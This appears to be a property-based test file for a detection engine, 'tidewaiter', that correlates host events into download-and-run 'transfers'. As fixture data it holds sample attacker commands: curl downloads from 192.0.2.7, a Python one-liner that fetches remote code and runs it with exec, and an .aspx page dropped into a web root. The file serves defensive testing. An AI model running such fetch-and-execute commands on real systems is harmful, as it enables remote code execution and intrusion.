"""Rows that are passed over without being unpacked leave a fold as if each had been looked at."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from unittest.mock import patch

import msgspec
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from property.worlds import ACTS, ADDRESSES, JUDGE, PATHS, PIDS, PORTS, SECOND, START, Fields, event_of, rows_of, told
from tidewaiter.correlation import quiet
from tidewaiter.correlation.host import HostFold, HostView
from tidewaiter.correlation.keys import visible_kind
from tidewaiter.pipeline import rows as pipeline_rows
from tidewaiter.pipeline.batches import Block, RowBatch
from tidewaiter.pipeline.rows import Row, merge, write_run
from tidewaiter.schema.event import Event, EventKind
from tidewaiter.schema.transfer import Transfer

KEYS = st.sampled_from((None, None, "{1}", "{2}"))


def _act(kind: EventKind, **fields: st.SearchStrategy[object]) -> st.SearchStrategy[Fields]:
    return st.fixed_dictionaries({"kind": st.just(kind), "pid": PIDS, "process_path": st.just("/usr/bin/curl"), **fields})


def _start(pid: int, parent: int, name: str, key: str | None) -> Fields:
    return {
        "kind": EventKind.PROCESS_START, "pid": pid, "parent_pid": parent, "process_path": f"/usr/bin/{name}",
        "process_key": key, "argv": (name,), "command_line": name, "cwd": "/home/ann",
    }  # fmt: skip


DULL: st.SearchStrategy[Fields] = st.one_of(
    st.builds(_start, PIDS, PIDS, st.sampled_from(("grep", "cron", "sh", "python3")), KEYS),
    _act(EventKind.FILE_CREATE, file_path=st.one_of(PATHS, st.just("/var/lib/x")), process_key=KEYS),
    _act(EventKind.FILE_CREATE, file_path=st.just("/var/lib/y"), process_key=KEYS),
    _act(EventKind.CONNECTION, dst_ip=ADDRESSES, dst_port=PORTS, initiated=st.just(True), process_key=KEYS),
    _act(EventKind.IMAGE_LOAD, file_path=st.just("/usr/lib/libc.so"), process_key=KEYS),
    _act(EventKind.FILE_RENAME, file_old_path=PATHS, file_path=PATHS, process_key=KEYS),
)
GAPS = st.sampled_from(
    (0, SECOND, 2 * SECOND, 4 * SECOND, 40 * SECOND, 400 * SECOND, 1_900 * SECOND, 7_200 * SECOND, 90_000 * SECOND)
)


@st.composite
def _histories(draw: st.DrawFn) -> list[Row]:
    """Long dull stretches with something between them."""
    time, events = START, list[Event]()
    for _ in range(draw(st.integers(1, 6))):
        acts = draw(st.lists(DULL, max_size=12)) + draw(st.lists(ACTS, max_size=4))
        for fields in acts:
            events.append(event_of(fields, time, len(events) + 1, draw(st.sampled_from(("a.log", "b.log")))))
            time += draw(GAPS)
    return rows_of(events)


def _lazily(rows: Sequence[Row], folder: Path, block: int) -> tuple[list[Transfer], int]:
    """The judged transfers of rows from two run files, and how many stretches were passed over."""
    fold = HostFold("web1", HostView({visible_kind(row.event) for row in rows}, "web1"))
    cases, passed = [], 0
    with patch.object(pipeline_rows, "BLOCK", block):
        paths = []
        for name in ("a.log", "b.log"):
            some = [row for row in rows if row.event.log_file == name]
            if some:
                paths.append(folder / f"{name}.run")
                write_run(paths[-1], some)
        for _, batches in merge(paths, folder):
            for batch in batches:
                assert isinstance(batch, RowBatch)
                cases += quiet.advance(fold, batch.parts, batch)
                passed += bool(fold.passed)
    cases += fold.finish()
    found = JUDGE.all(iter(cases))
    return sorted(found, key=lambda transfer: (transfer.id, msgspec.json.encode(transfer))), passed


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(_histories(), st.integers(1, 6))
def test_passing_over_changes_nothing(tmp_path: Path, rows: list[Row], block: int) -> None:
    if not rows:
        return
    found, passed = _lazily(rows, tmp_path, block)
    event(f"passed over: {min(passed, 3)}, transfers: {min(len(found), 3)}")
    assert found == told([rows])


def test_a_dull_day_is_not_unpacked(tmp_path: Path) -> None:
    start = _start(610, 1, "cron", None)
    dull: Fields = {"kind": EventKind.FILE_CREATE, "pid": 610, "file_path": "/var/lib/x", "process_path": "/usr/bin/cron"}
    rows = rows_of(
        [event_of(start if number == 0 else dull, START + number * SECOND, number, "a.log") for number in range(900)]
    )
    with patch.object(Block, "glimpses", property(lambda _block: 1 / 0)):
        assert _lazily(rows, tmp_path, 256)[0] == []


def test_what_was_passed_over_is_looked_at_once_a_transfer_is_near(tmp_path: Path) -> None:
    curl = "/usr/bin/curl"
    act: Fields = {"pid": 611, "process_path": curl}
    connection = {**act, "kind": EventKind.CONNECTION, "dst_ip": "192.0.2.7", "dst_port": 80, "initiated": True}
    typed = {**act, "kind": EventKind.SCRIPT, "content": "curl -o /tmp/a http://192.0.2.7/a"}
    events = [_start(611, 1, "curl", None), connection, typed]
    rows = rows_of([event_of(fields, START + number * SECOND, number, "a.log") for number, fields in enumerate(events)])
    found, passed = _lazily(rows, tmp_path, 1)
    assert passed >= 2
    assert [one.stages["connected"].state for one in found] == ["seen"]
    assert found == told([rows])


def _told_of(events: Sequence[tuple[int, Fields]], folder: Path, block: int = 1) -> list[Transfer]:
    """What rows amount to that come so many seconds after the beginning; the same as where each is looked at."""
    rows = rows_of([event_of(fields, START + at * SECOND, number, "a.log") for number, (at, fields) in enumerate(events)])
    found, passed = _lazily(rows, folder, block)
    assert passed
    assert found == told([rows])
    return found


FETCH: Fields = {"kind": EventKind.PROCESS_START, "pid": 611, "parent_pid": 610, "process_path": "/usr/bin/curl"}
CRON: Fields = {"pid": 610, "process_path": "/usr/bin/cron"}
DULL_FILE: Fields = {**CRON, "kind": EventKind.FILE_CREATE, "file_path": "/var/lib/x"}


def test_a_file_is_known_by_the_name_that_it_got_after_a_dull_stretch(tmp_path: Path) -> None:
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
            (1_000, DULL_FILE),
            (1_001, {**CRON, "kind": EventKind.FILE_RENAME, "file_old_path": "/tmp/a", "file_path": "/tmp/b"}),
            (9_000, {**CRON, "kind": EventKind.FILE_BLOCKED, "file_path": "/tmp/b"}),
        ],
        tmp_path,
    )
    assert "4" in {row.record for one in found for row in one.evidence}


def test_a_program_is_known_by_the_end_of_its_path(tmp_path: Path) -> None:
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, {**FETCH, "argv": ("curl", "-o", "out/kit", "http://192.0.2.7/kit")}),
            (1_000, DULL_FILE),
            (9_000, {**_start(612, 610, "x", None), "process_path": "/srv/out/kit", "argv": ("kit",)}),
        ],
        tmp_path,
    )
    assert [one.stages["run"].state for one in found] == ["seen"]


def test_a_page_that_a_web_server_compiles_much_later_has_run(tmp_path: Path) -> None:
    worker: Fields = {"pid": 620, "process_path": "/usr/bin/w3wp.exe"}
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (0, {**_start(620, 1, "w3wp.exe", None), "argv": ("w3wp.exe", "-ap", "Default")}),
            (1, {**FETCH, "argv": ("curl", "-o", "/srv/kit.aspx", "http://192.0.2.7/kit")}),
            (2, {"kind": EventKind.FILE_CREATE, "pid": 611, "process_path": "/usr/bin/curl", "file_path": "/srv/kit.aspx"}),
            (1_000, DULL_FILE),
            (9_000, {**worker, "kind": EventKind.FILE_CREATE, "file_path": "/var/tmp/kit.aspx.1a2b.compiled"}),
        ],
        tmp_path,
    )
    assert [one.stages["run"].state for one in found] == ["seen"]


@pytest.mark.parametrize("key", [None, "{1}"])
def test_what_a_process_does_for_its_transfer_minutes_later_is_looked_at(tmp_path: Path, key: str | None) -> None:
    connection = {"kind": EventKind.CONNECTION, "dst_ip": "192.0.2.7", "dst_port": 80, "initiated": True}
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a"), "process_key": key}),
            (500, DULL_FILE),
            (600, {**connection, "pid": 611, "process_path": "/usr/bin/curl", "process_key": key}),
        ],
        tmp_path,
    )
    assert [one.stages["connected"].state for one in found] == ["seen"]


@pytest.mark.parametrize("key", [None, "{1}"])
def test_what_a_loader_starts_minutes_later_is_looked_at(tmp_path: Path, key: str | None) -> None:
    code = "import urllib.request as u; exec(u.urlopen('http://192.0.2.7/a').read())"
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, {**FETCH, "process_path": "/usr/bin/python3", "argv": ("python3", "-c", code), "process_key": key}),
            (500, DULL_FILE),
            (600, {**_start(612, 611 if key is None else 99, "grep", None), "parent_key": key}),
        ],
        tmp_path,
    )
    assert [row.record for one in found for row in one.evidence] == ["1", "3"]


def test_what_a_process_did_before_its_start_was_told_is_not_lost(tmp_path: Path) -> None:
    act: Fields = {"pid": 611, "process_path": "/usr/bin/curl"}
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, DULL_FILE),
            (10, {**act, "kind": EventKind.FILE_CREATE, "file_path": "/tmp/q"}),
            (11, _start(611, 610, "curl", None)),
            (12, {**act, "kind": EventKind.SCRIPT, "content": "curl -o /tmp/q http://192.0.2.7/q"}),
            (13, DULL_FILE),
        ],
        tmp_path,
        block=2,
    )
    assert [one.stages["landed"].state for one in found] == ["seen"]


def test_a_program_that_ran_before_is_looked_at_once_its_file_was_brought_in(tmp_path: Path) -> None:
    found = _told_of(
        [
            (0, _start(610, 1, "cron", None)),
            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
            (1_000, {**_start(612, 610, "q", None), "process_path": "/tmp/q"}),
            (1_001, {**CRON, "kind": EventKind.FILE_RENAME, "file_old_path": "/tmp/a", "file_path": "/tmp/q"}),
            (9_000, {**_start(613, 610, "q", None), "process_path": "/tmp/q"}),
        ],
        tmp_path,
    )
    assert [one.stages["run"].state for one in found] == ["seen"]
